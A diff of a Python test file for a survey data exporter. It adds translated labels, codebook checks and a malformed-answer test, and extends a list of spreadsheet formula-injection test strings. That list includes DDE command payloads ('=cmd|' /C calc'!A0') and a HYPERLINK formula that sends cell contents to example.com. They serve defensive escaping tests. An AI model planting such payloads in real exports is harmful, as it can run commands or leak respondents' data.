@@ -22,7 +22,17 @@ QUESTIONS = (
     Question("story", "long_text"),
 )
 WORDS = {
-    "en": {"who.title": "Who?", "who.a": "Myself", "how.a": "By bus", "calm.low": "Not", "calm.high": "Very"}
+    "en": {
+        "who.title": "Who?",
+        "who.a": "Myself",
+        "how.title": "How?",
+        "how.a": "By bus",
+        "calm.title": "How calm?",
+        "calm.low": "Not",
+        "calm.high": "Very",
+        "story.title": "What happened?",
+    },
+    "ur": {"who.title": "کون؟"},
 }
 DOCUMENT = Document((Section("s1", QUESTIONS),), WORDS)
 
@@ -58,6 +68,12 @@ FORMULAS = [
     "'=1+1",
     "' \"=1",
     "“=1",
+    "”=1",
+    "‘=1",
+    "’=1",
+    "`=1",
+    "\x01=1",
+    "\x85=1",
     '=HYPERLINK("http://example.com?"&A1,"x")',
     "=cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -170,16 +186,49 @@ def test_a_file_is_made_as_it_is_read() -> None:
     assert len(taken) == 3
 
 
-def test_the_codebook_explains_every_column_and_every_value() -> None:
-    head, *rows = read(codebook(DOCUMENT))
-    columns = read(responses(DOCUMENT, [], []))[0]
+CODEBOOK = """\
+column|question|kind|value|question words|value words|meaning
+who|who|one_of||Who?||the id of the option that was chosen, empty if none was
+who|who|one_of|a|Who?|Myself|
+who|who|one_of|else|Who?||
+who|who|one_of|no|Who?||
+who:other|who|one_of||Who?||the person's own words beside “other”
+who:state|who|one_of||Who?||answered, skipped, refused (preferred not to say) or not_shown
+how.a|how|many_of|a|How?|By bus|1 if chosen, 0 if not, empty if the question was not answered
+how.else|how|many_of|else|How?||1 if chosen, 0 if not, empty if the question was not answered
+how.no|how|many_of|no|How?||1 if chosen, 0 if not, empty if the question was not answered
+how:other|how|many_of||How?||the person's own words beside “other”
+how:state|how|many_of||How?||answered, skipped, refused (preferred not to say) or not_shown
+calm|calm|scale||How calm?||a point of the scale, from 1 to the number of points, empty if none was chosen
+calm|calm|scale|1|How calm?|Not|
+calm|calm|scale|2|How calm?||
+calm|calm|scale|3|How calm?|Very|
+calm:state|calm|scale||How calm?||answered, skipped, refused (preferred not to say) or not_shown
+story|story|long_text||What happened?||the person's own words
+story:state|story|long_text||What happened?||answered, skipped, refused (preferred not to say) or not_shown
+"""
 
-    assert head[0] == "column"
-    assert list(dict.fromkeys(row[0] for row in rows)) == columns
-    assert ["who", "who", "one_of", "a", "Who?", "Myself", ""] in rows
-    assert [row[3:6] for row in rows if row[0] == "calm" and row[3]] == [
-        ["1", "", "Not"],
-        ["2", "", ""],
-        ["3", "", "Very"],
-    ]
-    assert {len(row) for row in rows} == {len(head)}
+
+def test_the_codebook_explains_every_column_and_every_value() -> None:
+    rows = read(codebook(DOCUMENT))
+
+    assert ["|".join(row) for row in rows] == CODEBOOK.splitlines()
+    assert list(dict.fromkeys(row[0] for row in rows[1:])) == read(responses(DOCUMENT, [], []))[0]
+
+
+def test_a_codebook_speaks_the_language_that_is_asked_for() -> None:
+    first = read(codebook(DOCUMENT, "ur", str.upper))[1]
+
+    assert first[4] == "کون؟"
+    assert first[6] == "THE ID OF THE OPTION THAT WAS CHOSEN, EMPTY IF NONE WAS"
+
+
+def test_an_answer_in_a_form_that_nobody_knows_leaves_its_cells_empty() -> None:
+    strange = Response((), {"who": {"state": "answered", "value": ["a"]}, "how": {"value": "a"}, "calm": {}})
+
+    head, row = read(responses(DOCUMENT, [], [strange]))
+
+    assert {name: cell for name, cell in zip(head, row, strict=True) if cell} == {
+        "who:state": "answered",
+        **dict.fromkeys(("how:state", "calm:state", "story:state"), "not_shown"),
+    }
